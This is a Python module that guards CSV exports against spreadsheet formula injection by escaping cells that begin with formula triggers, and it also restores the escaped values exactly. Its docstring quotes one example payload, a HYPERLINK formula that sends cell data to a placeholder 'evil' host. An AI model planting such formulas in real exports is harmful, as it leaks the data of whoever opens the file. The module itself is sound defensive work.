"""CSV cells a spreadsheet would evaluate, neutralised (CSV/formula injection, OWASP).

An exec filename of `=HYPERLINK("http://evil/?"&A1,"report")` or a comm starting with `@` or `+`
becomes a formula when an operator opens the export in a spreadsheet; quoting does not stop it.
Every string cell that starts with one of = + - @ TAB CR, or with their full-width forms
(＝ ＋ － ＠, which some locales' spreadsheets take as the same), or with blanks or control
characters before one of them, or with the escape itself (so that the change can be undone
exactly) gets a leading `'`, which spreadsheets show as text. restore() undoes it: `sigtrace
analyze` reads an export back to the very values recorded. `export --raw` skips it (the sidecar
says which form a file has).
"""
from __future__ import annotations

import pandas as pd

ESCAPE = "'"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", ESCAPE, "\uff1d", "\uff0b", "\uff0d", "\uff20")
# what may come before a trigger unseen: ASCII blanks and controls, no-break and ideographic spaces
LEADING = "".join(chr(c) for c in range(0x21)) + "\x7f\u00a0\u3000"
NEUTRALISED, RAW = "neutralised", "raw"


def _evaluated(v: str) -> bool:
    """Whether a spreadsheet may take the cell v for a formula (or v starts with the escape)."""
    return v.startswith(TRIGGERS) or (v[:1] in LEADING and v.lstrip(LEADING).startswith(TRIGGERS))


def _neutralise_value(v: str) -> str:
    return ESCAPE + v if _evaluated(v) else v


def _restore_value(v: str) -> str:
    # exact: a cell starting with the escape was escaped (a value starting with it is escaped too)
    return v[1:] if v.startswith(ESCAPE) and _evaluated(v[1:]) else v


def _map_strings(df: pd.DataFrame, fn) -> pd.DataFrame:
    out = df.copy(deep=False)
    for col in out.columns:
        s = out[col]
        if isinstance(s.dtype, pd.CategoricalDtype):
            cats = s.cat.categories
            if len(cats) and (cats.dtype == object or isinstance(cats.dtype, pd.StringDtype)):
                new = [fn(c) if isinstance(c, str) else c for c in cats]
                if len(set(new)) == len(new):
                    out[col] = s.cat.rename_categories(new)
                else:       # two cells that become one value (a file not written by export): per value
                    out[col] = s.astype(object).map(lambda v: fn(v) if isinstance(v, str) else v).astype("category")
        elif s.dtype == object or isinstance(s.dtype, pd.StringDtype):
            out[col] = s.map(lambda v: fn(v) if isinstance(v, str) else v, na_action="ignore").astype(s.dtype)
    return out


def neutralise(df: pd.DataFrame) -> pd.DataFrame:
    """A copy whose string cells a spreadsheet shows as text."""
    return _map_strings(df, _neutralise_value)


def restore(df: pd.DataFrame) -> pd.DataFrame:
    """The values neutralise() was given."""
    return _map_strings(df, _restore_value)
